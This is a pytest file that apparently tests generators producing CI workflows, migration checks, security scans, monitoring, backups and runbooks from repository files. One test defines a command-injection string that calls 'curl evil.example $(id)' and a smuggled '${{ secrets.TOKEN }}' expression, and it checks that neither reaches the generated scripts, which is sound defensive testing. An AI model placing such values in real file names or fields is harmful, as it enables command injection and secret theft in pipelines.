"""What single generators make of single files."""

from __future__ import annotations

import json

import pytest

from hitless.documents.yaml_tree import parse
from hitless.fix.generate import (
    backup,
    ci,
    dependabot,
    dockerignore,
    env_reference,
    migration_check,
    monitoring,
    runbooks,
    security_scan,
)
from hitless.fix.generate.all import NAMES, everything, generators
from hitless.fix.generate.wanted import lacks
from testing.generated import CASES, given, repository

PYTHON = "FROM python:3.13-slim\nCOPY . .\nUSER 1\n"
TESTED = {"tests/test_cart.py": "def test_cart(): ...\n", "Dockerfile": PYTHON}
POSTGRES = "services:\n  api: {build: .}\n  db: {image: 'postgres:17'}\n"


def runs(texts: dict[str, str]) -> list[str]:
    """Every line that the workflows of a repository run."""
    found = repository({p: t for p, t in texts.items() if p.endswith(".yml")}).workflows
    return [line for one in found for step in one.steps() for line in step.run.splitlines()]


def ci_of(texts: dict[str, str]) -> list[str]:
    return runs(ci.files(repository(texts)))


@pytest.mark.parametrize(
    ("lock", "install", "script"),
    [
        ("package-lock.json", "npm ci", "npm run test"),
        ("pnpm-lock.yaml", "pnpm install --frozen-lockfile", "pnpm run test"),
        ("yarn.lock", "yarn install --frozen-lockfile", "yarn run test"),
        ("bun.lock", "bun install --frozen-lockfile", "bun run test"),
        ("nothing", "npm install --no-package-lock", "npm run test"),
    ],
)
def test_the_lock_file_tells_the_package_manager(lock: str, install: str, script: str) -> None:
    package = json.dumps({"scripts": {"test": "vitest run"}, "dependencies": {"vue": "3"}})
    found = ci_of({"package.json": package, lock: ""})
    assert install in found
    assert script in found


def test_a_script_that_only_says_there_is_none_is_not_run() -> None:
    scripts = {"test": 'echo "Error: no test specified" && exit 1', "build": "vite build"}
    found = ci_of({"package.json": json.dumps({"scripts": scripts, "dependencies": {"vue": "3"}})})
    assert "npm run build" in found
    assert "npm run test" not in found


def test_a_project_with_uv_is_installed_as_locked_and_runs_inside() -> None:
    project = '[project]\nname = "shop"\ndependencies = ["pytest"]\n[tool.ruff]\n'
    found = ci_of({**TESTED, "pyproject.toml": project, "uv.lock": ""})
    assert "uv sync --locked" in found
    assert "uv run pytest" in found
    assert any("uv run ruff check ." in line for line in found)
    updates = dependabot.files(repository({**TESTED, "pyproject.toml": project, "uv.lock": ""}))[
        dependabot.PATH
    ]
    assert "package-ecosystem: uv" in updates
    assert "package-ecosystem: pip" not in updates


def test_a_member_of_a_workspace_is_installed_by_the_lock_file_of_its_root() -> None:
    project = '[project]\nname = "shop"\ndependencies = ["pytest"]\n'
    texts = {"uv.lock": "", "shop/pyproject.toml": project, "shop/tests/test_a.py": ""}
    found = ci_of(texts)
    assert found == ["uv sync --locked", "uv run pytest"]


@pytest.mark.parametrize(
    ("more", "install"),
    [
        ('[dependency-groups]\ndev = ["pytest"]\n', "--group dev --editable ."),
        ('[project.optional-dependencies]\ntest = ["pytest"]\n', '--editable ".[test]"'),
        ("", "--editable ."),
    ],
)
def test_what_developers_need_is_installed_with_the_project(more: str, install: str) -> None:
    project = '[build-system]\nrequires = ["x"]\n[project]\ndependencies = ["flask"]\n'
    found = ci_of({**TESTED, "pyproject.toml": project + more})
    assert found[0] == f"python -m pip install {install}"


@pytest.mark.parametrize("home", ["", "stacks/shop/"])
def test_only_the_package_that_a_service_runs_gets_its_database(home: str) -> None:
    compose = "services:\n  api: {build: {context: ., dockerfile: api/Dockerfile}}\n"
    texts = {
        f"{home}compose.yml": f"{compose}  db: {{image: 'postgres:17'}}\n",
        f"{home}api/Dockerfile": PYTHON,
        f"{home}api/requirements.txt": "pytest\n",
        f"{home}api/tests/test_a.py": "",
        "package.json": json.dumps({"scripts": {"test": "x"}, "dependencies": {"a": "1"}}),
    }
    made = ci.files(repository(texts))[".github/workflows/ci.yml"]
    found = repository({".github/workflows/ci.yml": made}).workflows[0]
    jobs = {one.name: one for one in found.jobs}
    assert jobs[f"python-{home.replace('/', '-')}api"].node.get("services") is not None
    assert jobs["javascript"].node.get("services") is None


def test_a_tool_that_no_manifest_installs_is_installed_at_a_version() -> None:
    found = ci_of({**TESTED, "requirements.txt": "flask==3.1.0\n", "ruff.toml": ""})
    assert any(line.startswith("python -m pip install") and "ruff==" in line for line in found)


def test_what_nobody_has_made_green_is_measured_at_first_and_tests_are_not() -> None:
    found = ci_of({**TESTED, "requirements.txt": "pytest==9.0.0\n", "ruff.toml": ""})
    assert next(line for line in found if "ruff check" in line).count("baseline.sh") == 1
    assert "pytest" in found


def test_a_tool_without_configuration_is_never_asked_for() -> None:
    text = "\n".join(ci_of({**TESTED, "requirements.txt": "pytest==9.0.0\nruff==0.17.6\n"}))
    assert "ruff check" not in text
    assert "mypy" not in text


def test_beside_a_pipeline_only_what_it_does_not_run_is_added() -> None:
    own = "on: push\npermissions: {}\njobs: {a: {runs-on: x, steps: [{run: ruff check .}]}}\n"
    texts = {
        **TESTED,
        "requirements.txt": "pytest==9.0.0\n",
        "ruff.toml": "",
        ".github/workflows/ci.yml": own,
    }
    made = ci.files(repository(texts))
    assert list(made) == [".github/workflows/checks.yml"]
    assert "pytest" in runs(made)
    assert not any("ruff check" in line for line in runs(made))


def test_another_system_s_pipeline_is_left_alone() -> None:
    assert ci.files(repository({**TESTED, "Jenkinsfile": "pipeline {}"})) == {}


def test_a_makefile_is_asked_for_what_no_package_can_run() -> None:
    found = ci_of({"Dockerfile": "FROM elixir:1.18\n", "Makefile": "test:\n\tmix test\n"})
    assert "make test" in found


def test_a_repository_that_can_only_be_built_is_built() -> None:
    assert "docker build --file Dockerfile ." in ci_of({"Dockerfile": "FROM elixir:1.18\n"})


def test_known_flaws_of_migrations_stop_nobody_on_the_first_day() -> None:
    text = migration_check.files(repository(given("legacy-stack")))[migration_check.PATH]
    assert "continue-on-error: true" in text
    assert "DB02 backend/alembic/versions/0003_authors.py" in text
    clean = migration_check.files(repository(given("task-tracker")))[migration_check.PATH]
    assert "continue-on-error" not in clean


def test_migrations_are_tried_without_the_tools_that_only_checks_need() -> None:
    found = runs(migration_check.files(repository(given("task-tracker"))))
    assert any("requirements-dev.lock" in line for line in found)
    assert not any("ruff" in line for line in found)


def test_django_goes_one_migration_back() -> None:
    texts = {
        "manage.py": "import django\n",
        "requirements.txt": "django==5.2\n",
        "shop/migrations/0001_initial.py": "",
        "shop/migrations/0002_price.py": "",
        "blog/migrations/0001_initial.py": "",
    }
    found = runs(migration_check.files(repository(texts)))
    assert "python manage.py migrate shop 0001_initial" in found
    assert "python manage.py migrate blog zero" in found


def test_prisma_is_applied_and_compared_because_it_has_no_way_back() -> None:
    texts = {
        "package.json": json.dumps({"dependencies": {"prisma": "7"}}),
        "package-lock.json": "{}",
        "prisma/migrations/1_init/migration.sql": "",
    }
    found = runs(migration_check.files(repository(texts)))
    assert "npx --no-install prisma migrate deploy" in found


def test_a_scan_reads_the_versions_that_are_installed() -> None:
    text = "\n".join(runs(security_scan.files(repository(given("go-binary")))))
    assert "govulncheck" in text
    assert "docker build" in text


def test_an_ignore_file_leaves_what_is_copied_by_name() -> None:
    copied = "FROM python:3.13-slim\nCOPY .github /srv/\nCOPY . .\n"
    texts = {"Dockerfile": copied, ".github/a": "", "a.py": "", "requirements.txt": "flask\n"}
    made = dockerignore.files(repository(texts))[".dockerignore"].splitlines()
    assert ".git" in made
    assert ".github" not in made


def test_an_example_that_exists_gets_a_second_one_and_stays_as_it_is() -> None:
    compose = "services:\n  a:\n    image: x:1\n    environment: {A: '${A}', B: '${B}'}\n"
    made = env_reference.files(repository({"compose.yml": compose, ".env.example": "A=1\n"}))
    assert list(made) == [".env.more.example"]
    assert "\nB=" in made[".env.more.example"]
    assert "\nA=" not in made[".env.more.example"]


def test_databases_that_nobody_can_prove_here_are_left_to_a_person() -> None:
    mysql = "services:\n  api: {build: .}\n  db: {image: 'mysql:8.4'}\n"
    one = repository({"compose.yml": mysql, "Dockerfile": PYTHON})
    assert backup.files(one) == {}
    assert "docs/restore.md" not in runbooks.files(one)


def test_somebody_s_own_backup_is_left_alone() -> None:
    one = repository({"compose.yml": POSTGRES, "backup.sh": "pg_dump shop > a\n"})
    assert backup.files(one) == {}


def test_monitoring_is_whole_or_not_made_at_all() -> None:
    texts = {"compose.yml": POSTGRES, "Dockerfile": PYTHON}
    assert len(monitoring.files(repository(texts))) == 10
    assert monitoring.files(repository({**texts, "monitoring/loki.yml": ""})) == {}


def test_nobody_commits_the_address_that_alerts_go_to() -> None:
    made = monitoring.files(repository({"compose.yml": POSTGRES, "Dockerfile": PYTHON}))
    assert "\n*\n" in made["monitoring/secrets/.gitignore"]


def test_no_log_driver_holds_containers_back_and_nothing_retired_is_used() -> None:
    text = "\n".join(monitoring.files(repository(given("legacy-stack"))).values())
    assert "promtail" not in text.lower()
    assert "driver: loki" not in text
    assert "grafana/alloy:" in text


@pytest.mark.parametrize("case", CASES)
def test_no_file_is_ever_written_over(case: str) -> None:
    texts = given(case)
    for _, one in generators():
        assert not set(one.files(repository(texts))) & set(texts)


@pytest.mark.parametrize("name", NAMES)
def test_of_nothing_nothing_is_made(name: str) -> None:
    made = dict(generators())[name]
    assert made.files(repository({})) == {}
    assert made.files(repository({"README.md": "# Words\n"})) == {}


@pytest.mark.parametrize(
    "texts",
    [
        {"package.json": "{", "Dockerfile": PYTHON},
        {"package.json": "[" * 5000, "Dockerfile": PYTHON},
        {"package.json": '{"scripts": [1], "dependencies": {"a": "1"}}', "Dockerfile": PYTHON},
        {"compose.yml": "services: {a: {build: .}", "Dockerfile": PYTHON},
        {"pyproject.toml": "[tool.ruff", "Dockerfile": PYTHON, "tests/test_a.py": ""},
        {"go.mod": "", "Dockerfile": "FROM"},
        {"requirements.txt": "x" * 1_100_000, "Dockerfile": PYTHON},
    ],
    ids=["broken", "deep", "shapes", "compose", "toml", "empty", "huge"],
)
def test_files_that_cannot_be_read_are_no_reason_to_fail(texts: dict[str, str]) -> None:
    for path, text in everything(repository(texts)).items():
        if path.endswith(".yml"):
            parse(text, path)


EVIL = "a; curl evil.example $(id) '\"`"


@pytest.mark.parametrize(
    "texts",
    [
        {f"{EVIL}/package.json": '{"scripts": {"test": "x"}, "dependencies": {"a": "1"}}'},
        {f"{EVIL}/requirements.txt": "flask==3\n", f"{EVIL}/tests/test_a.py": ""},
        {f"{EVIL}/go.mod": "module a\n"},
        {f"{EVIL}/compose.yml": POSTGRES, f"{EVIL}/Dockerfile": PYTHON},
        {"compose.yml": f"services:\n  {json.dumps(EVIL)}: {{build: {json.dumps(EVIL)}}}\n"},
        {
            "compose.yml": f"services:\n  api: {{build: .}}\n"
            f"  {json.dumps(EVIL)}: {{image: 'postgres:17'}}\n",
            "Dockerfile": PYTHON,
        },
        {
            "compose.yml": POSTGRES.replace(
                "{build: .}", "{build: ., environment: {A: '$${{ secrets.TOKEN }}'}}"
            ),
            "Dockerfile": PYTHON,
            "requirements.txt": "pytest\n",
            "tests/test_a.py": "",
        },
    ],
    ids=["npm", "python", "go", "folder", "service", "database", "expression"],
)
def test_a_hostile_name_reaches_no_script(texts: dict[str, str]) -> None:
    made = everything(repository({**texts, "Dockerfile": PYTHON}))
    for path, text in made.items():
        if path.startswith((".github/workflows", "ops/")):
            assert "curl evil" not in text, path
            assert "secrets.TOKEN" not in text, path


def test_what_a_pipeline_never_ran_is_run_beside_it() -> None:
    own = "on: push\npermissions: {}\njobs: {a: {runs-on: x, steps: [{run: echo}]}}\n"
    texts = {
        **TESTED,
        "requirements.txt": "pytest==9.0.0\n",
        "mypy.ini": "[mypy]\n",
        ".github/workflows/ci.yml": own,
    }
    assert lacks(repository(texts), "CI02")
    assert lacks(repository(texts), "CI03")
    assert not lacks(repository(texts | ci.files(repository(texts))), "CI02", "CI03")


def test_a_page_that_exists_is_not_asked_for_again() -> None:
    texts = {"compose.yml": POSTGRES, "Dockerfile": PYTHON, "README.md": "# Rollback\n\nNever.\n"}
    assert set(runbooks.files(repository(texts))) == {"docs/deploy.md", "docs/restore.md"}


@pytest.mark.parametrize(("readme", "linked"), [("# Shop\n", True), ("# How to deploy\n", False)])
def test_a_page_leads_to_no_page_that_is_not_there(readme: str, *, linked: bool) -> None:
    made = runbooks.files(
        repository({"compose.yml": POSTGRES, "Dockerfile": PYTHON, "README.md": readme})
    )
    assert ("docs/deploy.md" in made) is linked
    assert ("](deploy.md)" in made["docs/rollback.md"]) is linked


def test_a_restore_is_told_with_the_name_of_the_database() -> None:
    named = POSTGRES.replace("'postgres:17'}", "'postgres:17', environment: {POSTGRES_DB: shop}}")
    page = runbooks.files(repository({"compose.yml": named, "Dockerfile": PYTHON}))
    assert "ALTER DATABASE shop RENAME TO shop_broken;" in page["docs/restore.md"]
    unnamed = runbooks.files(repository({"compose.yml": POSTGRES, "Dockerfile": PYTHON}))
    assert "in place of `app`" in unnamed["docs/restore.md"]


def test_files_are_called_after_the_project_and_never_after_a_word_that_fits_all() -> None:
    texts = {"compose.yml": POSTGRES, "Dockerfile": PYTHON}
    by_folder = everything(repository(texts, "shop"))
    assert "name: shop-monitoring\n" in by_folder["compose.monitoring.yml"]
    assert "ops/shop-backup.timer" in by_folder
    named = everything(repository({**texts, "hitless.yaml": "service: tickets\n"}, "shop"))
    assert "ops/tickets-backup.timer" in named
    assert "name: tickets-monitoring\n" in named["compose.monitoring.yml"]


def test_a_restore_finds_the_database_that_is_called_after_its_user() -> None:
    user = "'postgres:17', environment: {POSTGRES_USER: '${DB_USER:-shop}'}}"
    texts = {"compose.yml": POSTGRES.replace("'postgres:17'}", user), "Dockerfile": PYTHON}
    assert "ALTER DATABASE shop RENAME" in runbooks.files(repository(texts))["docs/restore.md"]
